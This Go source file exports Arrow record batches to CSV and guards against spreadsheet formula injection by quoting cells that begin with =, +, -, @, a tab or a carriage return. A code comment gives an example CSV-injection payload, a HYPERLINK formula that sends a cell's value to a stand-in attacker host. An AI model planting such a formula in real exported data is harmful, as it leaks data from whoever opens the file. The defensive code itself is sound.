package console

import (
	"encoding/csv"
	"io"

	"github.com/apache/arrow-go/v18/arrow"
)

// CSV is written for spreadsheets, which run a cell that looks like a
// formula: a name or a property a tenant chose, such as
// =HYPERLINK("https://evil.example/?"&A1, "open"), would run on the
// machine of whoever opens the download. So every cell goes through
// CSVCell, and encoding/csv quotes what needs quoting (a comma, a quote,
// a line break, a leading space); the exact values are in the Arrow
// download (and the CLI's --format json and arrow).

// CSVCell is the text of a CSV cell as a spreadsheet must get it: a text
// that begins with =, +, -, @, a tab or a carriage return gets a leading
// single quote, which spreadsheets show as text and never run (OWASP's
// advice against CSV injection). A number (numeric: the column's type
// is an integer, a float or a decimal) is left as it is: -5 is data, and
// a numeric column holds nothing else.
func CSVCell(text string, numeric bool) string {
	if numeric || text == "" {
		return text
	}
	switch text[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + text
	}
	return text
}

// Numeric reports whether the cells of a column of type dt are numbers
// (CSVCell leaves them as they are).
func Numeric(dt arrow.DataType) bool {
	id := dt.ID()
	return arrow.IsInteger(id) || arrow.IsFloating(id) || arrow.IsDecimal(id)
}

// CSVWriter writes record batches as CSV with a header: a null is an
// empty cell, any other value its Arrow text (ValueStr: base64 for
// binary, JSON for lists and structs), each through CSVCell. The
// console's download and `flightns query --format csv` write with it.
type CSVWriter struct {
	w       *csv.Writer
	schema  *arrow.Schema
	numeric []bool
	row     []string
	started bool
}

// NewCSVWriter writes CSV of schema's batches to out.
func NewCSVWriter(out io.Writer, schema *arrow.Schema) *CSVWriter {
	cw := &CSVWriter{w: csv.NewWriter(out), schema: schema, row: make([]string, schema.NumFields())}
	for _, f := range schema.Fields() {
		cw.numeric = append(cw.numeric, Numeric(f.Type))
	}
	return cw
}

// Write writes rec's rows (after the header, the first time).
func (cw *CSVWriter) Write(rec arrow.RecordBatch) error {
	if err := cw.header(); err != nil {
		return err
	}
	for i := 0; i < int(rec.NumRows()); i++ {
		for j := range cw.row {
			col := rec.Column(j)
			if col.IsNull(i) {
				cw.row[j] = ""
			} else {
				cw.row[j] = CSVCell(col.ValueStr(i), cw.numeric[j])
			}
		}
		if err := cw.w.Write(cw.row); err != nil {
			return err
		}
	}
	cw.w.Flush()
	return cw.w.Error()
}

// Flush writes the header if no batch came, and what is buffered.
func (cw *CSVWriter) Flush() error {
	if err := cw.header(); err != nil {
		return err
	}
	cw.w.Flush()
	return cw.w.Error()
}

func (cw *CSVWriter) header() error {
	if cw.started {
		return nil
	}
	cw.started = true
	for j, f := range cw.schema.Fields() {
		cw.row[j] = CSVCell(f.Name, false)
	}
	return cw.w.Write(cw.row)
}
